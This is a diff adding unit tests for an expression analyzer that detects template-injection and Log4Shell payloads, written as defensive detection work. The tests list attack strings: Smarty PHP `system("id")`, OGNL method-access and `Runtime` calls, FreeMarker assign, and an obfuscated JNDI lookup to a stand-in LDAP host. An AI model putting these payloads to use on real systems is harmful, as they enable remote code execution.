@@ -61,6 +61,18 @@ describe("expression analyzer: template injection", () => {
   });
 });
 
+describe("expression analyzer: signatures in any case", () => {
+  // One pass decides which constructs to search for: it must see each signature however it is cased.
+  test.each([
+    ['{PHP}system("id");{/PHP}', "expression.smarty-php"],
+    ['%{#CONTEXT["xwork.MethodAccessor.denyMethodExecution"]=false}', "expression.ognl-member-access"],
+    ["<#ASSIGN x=1>", "expression.freemarker-assign"],
+    ["@JAVA.lang.Runtime@getRuntime()", "expression.ognl-static-member"],
+  ])("%s", (text, rule) => {
+    expect(analyze(text).some((f) => f.rule === rule)).toBe(true);
+  });
+});
+
 describe("expression analyzer: Log4Shell", () => {
   test.each([
     ["${jndi:ldap://x.example/a}"],
@@ -72,6 +84,13 @@ describe("expression analyzer: Log4Shell", () => {
     ["User ${jndi:${lower:l}${lower:d}a${lower:p}://x/a} here"],
   ])("%s", (text) => {
     expect(top(text, "log4shell")).toBeGreaterThanOrEqual(0.9);
+  });
+
+  test("text and lookups outside a JNDI lookup do not change it", () => {
+    const text = "a ${x} b} ${${lower:J}ndi:ldap://x/a} c ${y}";
+    const hits = jndiHits(text);
+    expect(hits.length).toBe(1);
+    expect(text.slice(hits[0]!.start, hits[0]!.end)).toBe("${${lower:J}ndi:ldap://x/a}");
   });
 
   test("the span covers the outermost lookup", () => {
